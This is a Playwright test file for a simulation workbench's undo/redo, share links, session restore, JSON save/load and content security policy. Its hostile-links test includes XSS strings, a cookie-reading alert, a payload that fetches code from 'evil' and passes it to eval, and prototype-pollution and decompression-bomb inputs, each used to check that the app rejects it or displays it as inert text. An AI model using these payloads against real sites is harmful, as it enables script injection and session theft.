/**
 * Keep and share: undo/redo (buttons and keys), save/load JSON, share links (round trip and hostile
 * links), restore after reload, the content security policy, and no eval in the bundle.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import { SourceMapConsumer } from 'source-map-js';
import { argonVoidSpec } from '../src/io/examples.ts';
import { SESSION_KEY } from '../src/ui/share/session.ts';
import { encodeShareHash, toBase64Url } from '../src/ui/share/shareUrl.ts';
import { dragTo, node, paletteStage } from './composerFlow.ts';
import { collectPageErrors } from './helpers.ts';

/** Records CSP violations in the page from the first script on. */
async function watchCsp(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (e) =>
      seen.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`),
    );
  });
}
const cspViolations = (page: Page) =>
  page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);

/** The draft the page keeps for the next visit (what the spec store holds). */
async function storedDraft(
  page: Page,
): Promise<{ name: string; stages: Array<{ kind: string; dt?: number }> }> {
  return page.evaluate((key) => JSON.parse(localStorage.getItem(key) ?? 'null').draft, SESSION_KEY);
}
const stageKinds = async (page: Page) => (await storedDraft(page)).stages.map((s) => s.kind);

/** Structural edits through the composer (the edits undo must cover), as a person makes them. */
const addStage = async (page: Page, kind: string) =>
  dragTo(page, paletteStage(page, kind), page.getByTestId(`gap-${(await stageKinds(page)).length}`));
const removeStage = async (page: Page, index: number) => {
  await node(page, `stages[${index}]`).click();
  await page.getByTestId('remove-node').click();
};
/** A field of stage `index`, shown by the inspector once the stage is selected. */
const stageField = async (page: Page, index: number, name: string) => {
  await node(page, `stages[${index}]`).click();
  return page.getByTestId(`field-stages[${index}].${name}`);
};

/** deflate-raw + base64url of any text, as a hostile link would carry it. */
async function pack(text: string): Promise<string> {
  const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('deflate-raw'));
  return toBase64Url(new Uint8Array(await new Response(stream).arrayBuffer()));
}
const specJson = (patch: (d: Record<string, unknown>) => void = () => {}) => {
  const d = structuredClone(argonVoidSpec) as unknown as Record<string, unknown>;
  patch(d);
  return JSON.stringify(d);
};

test.beforeEach(async ({ page }) => {
  await watchCsp(page);
});

test.afterEach(async ({ page }) => {
  expect(await cspViolations(page)).toEqual([]);
});

test('the page runs under a same-origin content security policy; the bundle has no eval', async ({
  page,
}) => {
  const errors = collectPageErrors(page);
  const response = await page.goto('/');
  const policy = response?.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'self'");
  expect(policy).toMatch(/script-src 'self'( 'wasm-unsafe-eval')?;/);
  expect(policy).toContain("connect-src 'self'");
  expect(policy).not.toContain('unsafe-inline');
  expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toContain(
    "default-src 'self'",
  );
  // A short run: worker, WebGPU, plots and the viewer all work under the policy.
  await page.getByTestId('run').click();
  await expect.poll(async () => Number(await page.getByTestId('step').textContent())).toBeGreaterThan(0);
  await page.getByTestId('stop').click();
  expect(errors).toEqual([]);

  // Code generation in the built bundle, traced to its source through the source maps: none in our
  // code; the only third-party one is zod's JIT, which `z.config({ jitless: true })` (src/io/spec.ts)
  // switches off (the run above would have reported its `Function('')` probe as a CSP violation).
  const assets = join('dist', 'assets');
  const found: string[] = [];
  for (const f of readdirSync(assets).filter((n) => n.endsWith('.js'))) {
    const text = readFileSync(join(assets, f), 'utf8');
    const map = new SourceMapConsumer(JSON.parse(readFileSync(join(assets, `${f}.map`), 'utf8')));
    for (const m of text.matchAll(/\bnew Function\s*\(|(?<![.\w$])Function\s*\(|(?<![.\w$])eval\s*\(/g)) {
      const before = text.slice(0, m.index);
      const line = before.split('\n').length;
      const column = m.index - before.lastIndexOf('\n') - 1;
      const source = map.originalPositionFor({ line, column }).source ?? `${f} (no source)`;
      found.push(source.replace(/^.*node_modules\//, 'node_modules/'));
    }
  }
  expect(found.filter((s) => !s.startsWith('node_modules/zod/'))).toEqual([]);
});

test('undo and redo cover field and stage edits, by button and by keyboard', async ({ page }) => {
  const errors = collectPageErrors(page);
  await page.goto('/');
  const undo = page.getByTestId('undo');
  const redo = page.getByTestId('redo');
  await expect(undo).toBeDisabled();
  await expect(redo).toBeDisabled();

  const dt = await stageField(page, 0, 'dt');
  await dt.fill('2.5');
  await addStage(page, 'nve');
  await expect.poll(() => stageKinds(page)).toEqual(['fire', 'langevin', 'nve', 'nve']);
  await removeStage(page, 0);
  await expect.poll(() => stageKinds(page)).toEqual(['langevin', 'nve', 'nve']);

  await undo.click();
  await expect.poll(() => stageKinds(page)).toEqual(['fire', 'langevin', 'nve', 'nve']);
  // Keyboard: Ctrl+Z with the focus outside a text field.
  await undo.focus();
  await page.keyboard.press('Control+z');
  await expect.poll(() => stageKinds(page)).toEqual(['fire', 'langevin', 'nve']);
  await expect(await stageField(page, 0, 'dt')).toHaveValue('2.5');
  await page.keyboard.press('Control+Shift+z');
  await expect.poll(() => stageKinds(page)).toEqual(['fire', 'langevin', 'nve', 'nve']);
  await expect(redo).toBeEnabled(); // the removal can still be taken again
  await page.keyboard.press('Control+y');
  await expect.poll(() => stageKinds(page)).toEqual(['langevin', 'nve', 'nve']);
  await expect(redo).toBeDisabled();
  // The typed value is one step: undoing all three edits brings back dt = 5.
  for (let k = 0; k < 3; k++) await undo.click();
  await expect.poll(() => stageKinds(page)).toEqual(['fire', 'langevin', 'nve']);
  await expect(await stageField(page, 0, 'dt')).toHaveValue('5');
  await expect(undo).toBeDisabled();
  // A new edit clears redo.
  await (await stageField(page, 1, 'temperature')).fill('90');
  await expect(redo).toBeDisabled();
  // In a text field Ctrl+Z is the field's own undo, not the page's.
  await (await stageField(page, 1, 'temperature')).press('Control+z');
  await expect(redo).toBeDisabled();
  expect(await stageKinds(page)).toEqual(['fire', 'langevin', 'nve']);
  expect(errors).toEqual([]);
});

test('the shortcut list opens with ? and closes with Escape', async ({ page }) => {
  await page.goto('/');
  await page.getByTestId('undo').focus();
  await page.keyboard.press('?');
  const help = page.getByTestId('shortcut-help');
  await expect(help).toBeVisible();
  for (const keys of ['Ctrl+Z (⌘Z)', 'Ctrl+S (⌘S)', 'Ctrl+O (⌘O)', 'R', 'P', 'S', '?'])
    await expect(help.locator('kbd', { hasText: keys }).first()).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(help).toBeHidden();
  await page.getByTestId('show-shortcuts').click();
  await expect(help).toBeVisible();
  await page.getByTestId('shortcut-help-close').click();
  await expect(help).toBeHidden();
});

test('a share link opens the same spec in a fresh browser; the hash is then dropped', async ({
  page,
  browser,
}) => {
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto('/');
  await (await stageField(page, 0, 'dt')).fill('2.5');
  await addStage(page, 'nve');
  await page.getByTestId('copy-share-link').click();
  await expect(page.getByTestId('spec-message-text')).toHaveText('Share link copied to the clipboard.');
  const link = await page.getByTestId('share-link').inputValue();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(link);
  expect(link).toMatch(/^http:\/\/localhost:\d+\/#spec=[A-Za-z0-9_-]+$/);

  const other = await browser.newContext();
  const fresh = await other.newPage();
  await watchCsp(fresh);
  await fresh.goto(link);
  await expect(fresh.getByTestId('spec-message-text')).toHaveText(
    `Opened the shared spec “${argonVoidSpec.name}” (Undo goes back).`,
  );
  await expect(await stageField(fresh, 0, 'dt')).toHaveValue('2.5');
  expect(await stageKinds(fresh)).toEqual(['fire', 'langevin', 'nve', 'nve']);
  await expect.poll(() => fresh.evaluate(() => location.hash)).toBe('');
  // Undo goes back to what the page showed before the link.
  await fresh.getByTestId('undo').click();
  await expect(await stageField(fresh, 0, 'dt')).toHaveValue('5');
  expect(await cspViolations(fresh)).toEqual([]);
  await other.close();
});

test('the edited draft, even an invalid one, is back after a reload; a corrupted entry is explained', async ({
  page,
}) => {
  const errors = collectPageErrors(page);
  await page.goto('/');
  await (await stageField(page, 0, 'dt')).fill('-1');
  await (await stageField(page, 1, 'temperature')).fill('abc');
  await addStage(page, 'nve');
  await page.reload();
  await expect(await stageField(page, 0, 'dt')).toHaveValue('-1');
  await expect(page.getByTestId('issue-stages[0].dt')).toHaveText('stages[0].dt: must be > 0 fs');
  await expect(await stageField(page, 1, 'temperature')).toHaveValue('');
  await expect(page.getByTestId('issue-stages[1].temperature')).toContainText('must be a number');
  expect(await stageKinds(page)).toEqual(['fire', 'langevin', 'nve', 'nve']);
  await expect(page.getByTestId('run')).toBeDisabled();
  await expect(page.getByTestId('spec-message')).toHaveCount(0);

  await page.evaluate(
    (key) => localStorage.setItem(key, '{"app":"md-workbench","format":1,"draft":{'),
    SESSION_KEY,
  );
  await page.reload();
  await expect(page.getByTestId('spec-message-text')).toHaveText(
    /^The last session could not be restored: it is not valid JSON \(.+\)\. The example is shown instead\.$/,
  );
  await expect(await stageField(page, 0, 'dt')).toHaveValue('5');
  await expect(page.getByTestId('run')).toBeEnabled();
  await page.evaluate(
    (key) =>
      localStorage.setItem(
        key,
        JSON.stringify({ app: 'md-workbench', format: 1, draft: { version: 1, stages: 7 } }),
      ),
    SESSION_KEY,
  );
  await page.reload();
  await expect(page.getByTestId('spec-message-text')).toContainText(
    'The last session could not be restored: it is not a spec this page can show (system:',
  );
  expect(errors).toEqual([]);
});

test('hostile or corrupted links are refused with a reason and leave the graph untouched', async ({
  page,
}) => {
  const errors = collectPageErrors(page);
  await page.goto('/');
  await (await stageField(page, 0, 'dt')).fill('3');
  const cases: Array<[string, string | RegExp]> = [
    ['alert(document.cookie)', 'it is not base64url text'],
    [
      toBase64Url(new TextEncoder().encode('not deflate at all')),
      /^it is not deflate-compressed data \(.+\)$/,
    ],
    [await pack('{"version": 1, "name": '), /^it is not valid JSON \(.+\)$/],
    [await pack(' '.repeat(4 << 20)), 'it inflates to more than 1.0 MiB'],
    [await pack('['.repeat(50_000)), 'it nests more than 32 levels deep'],
    [
      await pack(specJson((d) => ((d.stages as Array<{ dt: number }>)[1]!.dt = 0))),
      'it is not a valid pipeline spec (stages[1].dt: must be > 0 fs)',
    ],
    [
      await pack(`{"__proto__":{"polluted":1},${specJson().slice(1)}`),
      'it has the forbidden key "__proto__"',
    ],
    [
      await pack('"fetch(\'//evil\').then(r => r.text()).then(eval)"'),
      'it is not a pipeline spec (expected a JSON object)',
    ],
  ];
  for (const [param, why] of cases) {
    await page.goto(`/#spec=${param}`);
    const text = page.getByTestId('spec-message-text');
    const expected =
      typeof why === 'string'
        ? `The shared link could not be opened: ${why}. Nothing was changed.`
        : new RegExp(
            `^The shared link could not be opened: ${why.source.slice(1, -1)}\\. Nothing was changed\\.$`,
          );
    await expect(text).toHaveText(expected);
    await expect(page.getByTestId('spec-message')).toHaveAttribute('role', 'alert');
    await expect(await stageField(page, 0, 'dt')).toHaveValue('3');
    expect(await page.evaluate(() => location.hash)).toBe('');
    await page.getByTestId('spec-message-dismiss').click();
  }
  expect(await page.evaluate(() => ({}) as Record<string, unknown>)).not.toHaveProperty('polluted');

  // Text that looks like code is shown as text and never runs.
  const name = '<img src=x onerror="window.__pwned=1">';
  const hash = await encodeShareHash(JSON.parse(specJson((d) => (d.name = name))));
  await page.goto(`/${hash}`);
  await expect(page.getByTestId('spec-message-text')).toHaveText(
    `Opened the shared spec “${name}” (Undo goes back).`,
  );
  await expect(page.locator('.spec-name')).toHaveText(name);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(errors).toEqual([]);
});

test('the spec saves as JSON (Ctrl+S) and loads back (Ctrl+O); bad files change nothing', async ({
  page,
}) => {
  const errors = collectPageErrors(page);
  await page.goto('/');
  await (await stageField(page, 0, 'dt')).fill('4');
  await page.getByTestId('undo').focus();
  const [download] = await Promise.all([page.waitForEvent('download'), page.keyboard.press('Control+s')]);
  expect(download.suggestedFilename()).toMatch(/^Argon-crystal-with-a-void.*\.spec\.json$/);
  const saved = readFileSync(await download.path(), 'utf8');
  expect(JSON.parse(saved).stages[0].dt).toBe(4);

  await (await stageField(page, 0, 'dt')).fill('6');
  const input = page.getByTestId('load-spec-input');
  const bad: Array<[string, string, string | RegExp]> = [
    ['garbage.json', 'this is not json', /^it is not valid JSON \(.+\)$/],
    ['empty.json', '   ', 'it is empty'],
    ['array.json', '[]', 'it is not a pipeline spec (expected a JSON object)'],
    [
      'shape.json',
      specJson((d) => (d.potential = { kind: 'lennard-jones' })),
      /^it is not a valid pipeline spec \(potential\.epsilon: .+\)$/,
    ],
    ['proto.json', `{"__proto__":{"x":1},${specJson().slice(1)}`, 'it has the forbidden key "__proto__"'],
    ['deep.json', `${'{"a":'.repeat(40)}1${'}'.repeat(40)}`, 'it nests more than 32 levels deep'],
  ];
  for (const [name, text, why] of bad) {
    await input.setInputFiles({ name, mimeType: 'application/json', buffer: Buffer.from(text) });
    const prefix = `The file ${name} could not be loaded: `;
    const expected =
      typeof why === 'string'
        ? `${prefix}${why}. Nothing was changed.`
        : new RegExp(`^${prefix.replace(/\./g, '\\.')}${why.source.slice(1, -1)}\\. Nothing was changed\\.$`);
    await expect(page.getByTestId('spec-message-text')).toHaveText(expected);
    await expect(await stageField(page, 0, 'dt')).toHaveValue('6');
  }
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.keyboard.press('Control+o')]);
  await chooser.setFiles({
    name: 'saved.spec.json',
    mimeType: 'application/json',
    buffer: Buffer.from(saved),
  });
  await expect(page.getByTestId('spec-message-text')).toHaveText(
    `Loaded “${argonVoidSpec.name}” from saved.spec.json (Undo goes back).`,
  );
  await expect(await stageField(page, 0, 'dt')).toHaveValue('4');
  await page.getByTestId('undo').click();
  await expect(await stageField(page, 0, 'dt')).toHaveValue('6');
  expect(errors).toEqual([]);
});
